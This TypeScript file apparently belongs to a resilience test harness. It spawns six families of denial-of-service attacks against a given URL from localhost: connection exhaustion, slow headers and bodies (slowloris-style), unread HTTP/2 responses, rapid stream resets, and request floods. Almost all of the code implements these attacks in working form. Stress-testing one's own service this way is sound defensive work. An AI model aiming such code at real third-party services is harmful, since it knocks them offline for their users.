/** Six families of attacks, run in a process of their own: `attackers.ts NAME URL`. Ends with its parent. */
import type net from "node:net";
import { setPriority } from "node:os";
import { Tally } from "./attacks/attack.js";
import { keepConnected } from "./attacks/wire/crowd.js";
import { countResponses, encodeHead, pump } from "./attacks/wire/http1.js";
import { encodeStart, Http2Connection, type Http2Options } from "./attacks/wire/http2-connection.js";
import * as frames from "./attacks/wire/http2-frames.js";
import type { FamilyName } from "./families.js";
import { TRANSFER_FACTORY } from "./families.js";

const [name = "", url = ""] = process.argv.slice(2);
const { hostname: host, port } = new URL(url);
const tally = new Tally();
const stopped = new AbortController();

const JSON_TYPE = { "content-type": "application/json" };
const DOCS = "/docs/static/swagger-ui-bundle.js";
/** Of a connection: within the limit of the service, and beyond it. */
const STREAMS = [100, 256];
const BODY_BYTES = 1024 * 1024;
const PERIOD_MS = 1_000;

type Use = (socket: net.Socket, index: number) => void;

const keep = (count: number, use: Use) =>
  keepConnected({ url, host, port: Number(port), from: "127.0.0.1" }, tally, stopped.signal, { count, use });

const body = Buffer.from(TRANSFER_FACTORY.body);
const post = (path: string, length: number) =>
  encodeHead("POST", path, { "Content-Type": "application/json", "Content-Length": String(length) });
const call = Buffer.concat([post(TRANSFER_FACTORY.path, body.length), body]);
const postBlock = frames.encodeRequestBlock("POST", TRANSFER_FACTORY.path, JSON_TYPE);
const getBlock = frames.encodeRequestBlock("GET", DOCS);

/** Writes again and again until the connection closes. */
function repeat(socket: net.Socket, bytes: string | Buffer): void {
  const timer = setInterval(() => socket.write(bytes), PERIOD_MS);
  socket.once("close", () => clearInterval(timer));
}

/** Requests on all streams; where one ends, another follows. */
function fillStreams(socket: net.Socket, options: Http2Options, blocks: readonly Buffer[], content?: Buffer): void {
  let requests = 0;
  const next = () => {
    const block = blocks[requests++ % blocks.length] ?? postBlock;
    const sent = content === undefined ? { content: body, ends: true } : { content, ends: false };
    connection.request(block, block === getBlock ? undefined : sent);
  };
  const connection = new Http2Connection(socket, tally, { ...options, onStreamEnd: next });
  for (let stream = 0; stream < (STREAMS[tally.opened % STREAMS.length] ?? 0); stream++) next();
}

/** DATA that belongs to no stream. */
const broken = frames.encodeFrame(frames.TYPE.data, 0, 0, Buffer.from("broken"));

const attacks: Readonly<Record<FamilyName, () => Promise<unknown>>> = {
  connections: () => {
    const begins = [
      Buffer.alloc(0),
      Buffer.from("P"),
      encodeStart(),
      encodeHead("GET", "/livez"),
      Buffer.concat([encodeStart(0), broken]),
    ];
    return keep(9_000, (socket, index) => {
      socket.resume().write(begins[index % begins.length] ?? "");
    });
  },
  "slow headers": () =>
    keep(3_000, (socket, index) => {
      socket.resume().write(index % 2 === 0 ? "POST / HTTP/1.1\r\nX: " : encodeStart());
      // The frame announces more than ever arrives.
      if (index % 2 === 1) socket.write(frames.encodeFrameHead(frames.TYPE.headers, 5, 1, 16_000));
      repeat(socket, "a");
    }),
  "slow bodies": () =>
    Promise.all([
      keep(1_200, (socket) => {
        countResponses(socket, tally, () => socket.destroy());
        socket.write(post(TRANSFER_FACTORY.path, BODY_BYTES));
        socket.write(Buffer.alloc(BODY_BYTES - 1, " "));
      }),
      keep(10, (socket) => fillStreams(socket, {}, [postBlock], Buffer.alloc(BODY_BYTES, " "))),
    ]),
  "unread responses": () =>
    Promise.all([
      keep(200, (socket, index) =>
        fillStreams(socket, { responseWindow: 0 }, index % 4 === 0 ? [postBlock, getBlock] : [postBlock]),
      ),
      keep(20, (socket, index) => {
        socket.pause();
        pump(socket, () => (index % 2 === 0 ? call : encodeHead("GET", DOCS)));
      }),
    ]),
  resets: () =>
    Promise.all([
      keep(50, (socket) => {
        let id = 1;
        socket.resume().write(encodeStart());
        pump(socket, () => {
          tally.requests++;
          const reset = frames.encodeUint32Frame(frames.TYPE.reset, id, frames.CANCEL);
          const request = frames.encodeHeaders(id, postBlock, false);
          id += 2;
          return Buffer.concat([request, reset]);
        });
      }),
      keep(50, (socket) => {
        tally.requests++;
        socket.write(call, () => socket.resetAndDestroy());
      }),
    ]),
  floods: () =>
    Promise.all([
      keep(50, (socket) => {
        countResponses(socket, tally);
        pump(socket, () => {
          tally.requests++;
          return call;
        });
      }),
      keep(50, (socket) => fillStreams(socket, {}, [postBlock])),
    ]),
};

try {
  // The service has its share of the machine, as if the attackers had another.
  setPriority(10);
} catch {
  // Not everywhere allowed.
}
process.on("disconnect", () => process.exit());
process.on("message", () => stopped.abort());
await attacks[name as FamilyName]();
process.send?.(tally, () => process.disconnect());
